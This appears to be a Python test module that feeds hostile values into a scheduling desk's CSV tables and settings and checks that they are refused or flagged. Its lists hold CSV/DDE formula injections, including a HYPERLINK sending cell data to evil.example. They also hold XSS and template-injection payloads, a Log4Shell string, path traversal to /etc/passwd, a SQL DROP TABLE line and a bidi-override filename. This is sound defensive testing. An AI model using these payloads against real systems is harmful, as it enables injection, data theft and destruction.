"""Hostile texts, numbers and dates in the cells of a desk's tables and settings."""

import csv
import io
from collections.abc import Iterable, Iterator
from functools import partial
from pathlib import Path

from tests.hostile.entry import Hostile
from tests.unit.desk.small import SETTINGS, TABLES, make_desk

FORMULAS = (
    "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "'=1", "''=1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=x",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '"=1"', "%=1", "\u3000=1", "\u00a0=1",
    "=1\n=2", ";=1", "a;=1+1", "%0A=1", "=DDE(\"x\";\"y\";\"z\")", "−1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>x</b>",
    '"><svg onload=alert(1)>', "javascript:alert(1)", "{{7*7}}", "{0.__class__}", "{name}", "%(x)s", "${jndi:ldap://x}",
    "![x](http://evil.example/x.png)", "[x](javascript:alert(1))", "<!--", "]]>", "&lt;b&gt;", ":red[x]", "$\\frac{1}{2}$",
    "<a href='javascript:alert(1)'>x</a>", "<iframe src=//evil.example>", "`code`", "# title", "{% raw %}", "<x\u2003y>",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\x", "/etc/passwd", "C:\\x", "CON", "nul.txt", "..", ".", "~root", "a/b/c",
    "-rf", "x" * 300, "café", "cafe\u0301", "%2e%2e%2f", "file:///etc/passwd", "\\\\host\\share", "COM1.ics", "a:b", "x.",
)  # fmt: skip
SYNTAX = (
    "'; DROP TABLE agents;--", "a,b", 'a"b', "a;b:c\\n", "x\\nATTENDEE:mailto:x", "null", "NA", "nan", "None", "True",
    "1e5", "00123", "2026-06-01", "\U0001f468\u200d\U0001f469", "ﷺ" * 20, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "𝔘𝔫𝔦", "İ", "ß", "٣", "%00",
)  # fmt: skip
CONTROLS = {
    "escape": "\x1b[31mred", "bell": "x\x07", "delete": "x\x7f", "c1": "x\x85y", "null": "x\x00y", "unit": "x\x1fy",
    "override": "\u202etxt.exe", "isolate": "\u2066x\u2069", "mark-rl": "x\u200f", "zero-width": "x\u200by", "separator": "x\u2028y",
    "paragraph": "x\u2029y", "bom": "x\ufeffy", "noncharacter": "x\ufffey", "tag": "x\U000e0041", "last": "x\U0010ffff",
    "crlf": "x\r\nBEGIN:VEVENT", "tab": "x\ty", "newline": "x\nATTENDEE:mailto:x", "private": "x\ue000", "word-joiner": "x\u2060y",
}  # fmt: skip
NUMBERS = {
    "1e308": ("too_large",), "1e309": ("too_large",), "9" * 400: ("too_large",), "9" * 5000: ("too_large",),
    "NaN": ("not_finite",), "inf": ("not_finite",), "-Infinity": ("not_finite",), "0x10": ("number_as_text",),
    "1_000": ("number_as_text",), "１２": ("number_as_text",), "--1": ("number_as_text",), "٣": ("number_as_text",),
    "1,5": ("number_as_text",), "=1": ("number_as_text",), "1e": ("number_as_text",), "-1e308": ("negative_number",),
    "1 000": ("number_as_text",), "1e99999999999": ("too_large",), "0." + "1" * 5000: (), "1e-400": (), "-0": (),
    "½": ("number_as_text",), "0b1": ("number_as_text",), "1f": ("number_as_text",), "²": ("number_as_text",),
}  # fmt: skip
DATES = {
    "0000-00-00": ("no_such_day",), "9999-12-31": ("no_such_day",), "1000000-01-01": ("not_a_date",),
    "2026-02-30": ("no_such_day",), "1969-12-31": ("no_such_day",), "2026-13-01": ("no_such_day",),
    "-2026-01-01": ("not_a_date",), "0001-01-01": ("no_such_day",), "２０２６-06-01": ("not_a_date",),
    "2026-06-01T25:00": ("not_a_date",), "now": ("not_a_date",), "NaT": ("not_a_date",), "46000": ("not_a_date",),
    "2026-W23-1": ("not_a_date",), "٢٠٢٦-٠٦-٠١": ("not_a_date",), "2026-06-31": ("no_such_day",),
}  # fmt: skip
FEW = ("agents", "skills", "shifts", "leave", "activities")
UNSAFE = ("unsafe_text", "binary_file")
LINES = ("crlf", "tab", "newline")
HARMLESS = ("private",)


def hostile_fields() -> Iterator[Hostile]:
    """Every value in the places where its kind can do most harm."""
    for kind, values in {"formula": FORMULAS, "markup": MARKUP, "path": PATHS, "syntax": SYNTAX}.items():
        for value in values:
            yield Hostile(f"name-{kind}-{value[:24]!a}", partial(_in_cell, "agents", "name", value))
            yield Hostile(f"agent-{kind}-{value[:24]!a}", partial(_renamed, "A1", value))
    for name, value in CONTROLS.items():
        refused = () if name in HARMLESS else UNSAFE
        yield Hostile(f"name-{name}", partial(_in_cell, "agents", "name", value), () if name in LINES else refused)
        yield Hostile(f"agent-{name}", partial(_renamed, "A1", value), refused)
        yield Hostile(f"who-{name}", partial(_renamed, "T1", value), refused)
    for value, codes in NUMBERS.items():
        yield Hostile(f"number-{value[:24]!a}-{len(value)}", partial(_in_cell, "agents", "cost_per_h", value), codes)
    for value, codes in DATES.items():
        yield Hostile(f"date-{value!a}", partial(_in_cell, "leave", "date", value), codes)
    for value in ("=1+1", "＝x", "@x", "\x1b[1m", "\u202ex", "+x"):
        yield Hostile(f"driver-{value!a}", partial(_column, value), ("unsafe_column", "unsafe_text"))
    for value in FORMULAS[:10] + MARKUP[:6]:
        yield Hostile(f"queue-{value[:24]!a}", partial(_queue, value))


def _in_cell(table: str, column: str, value: str, folder: Path) -> Path:
    rows = _rows(table)
    rows[1][rows[0].index(column)] = value
    return make_desk(folder, only=FEW, **{table: _text(rows)})


def many(values: Iterable[str], folder: Path, column: str = "name") -> Path:
    """The small desk with an agent for each value: as its name, its code, its team or its wage."""
    people, skills = _rows("agents"), _rows("skills")
    for number, value in enumerate(values):
        row = {"agent": f"H{number}", "name": "x", "team": "T1", "contract": "full", "cost_per_h": "30"} | {
            column: value
        }
        people.append(list(row.values()))
        skills.append([row["agent"], "pre", "1", "1"])
    return make_desk(folder, SETTINGS, only=FEW, agents=_text(people), skills=_text(skills))


def _renamed(old: str, new: str, folder: Path) -> Path:
    """Wherever the name stands, alone or in a list."""
    tables = {}
    for table in FEW:
        rows = [
            ["|".join(new if part == old else part for part in cell.split("|")) for cell in row] for row in _rows(table)
        ]
        tables[table] = _text(rows)
    return make_desk(folder, only=FEW, **tables)


def _queue(name: str, folder: Path) -> Path:
    key = '"' + name.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
    _renamed("pre", name, folder)
    (folder / "desk.toml").write_text(SETTINGS.replace("[queues.pre]", f"[queues.{key}]"), encoding="utf-8")
    return folder


def _column(name: str, folder: Path) -> Path:
    rows = _rows("drivers")
    rows[0][2] = name
    return make_desk(folder, only=FEW, drivers=_text(rows))


def _rows(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(TABLES[table].strip())))


def _text(rows: list[list[str]]) -> str:
    target = io.StringIO()
    csv.writer(target, lineterminator="\n").writerows(rows)
    return target.getvalue()
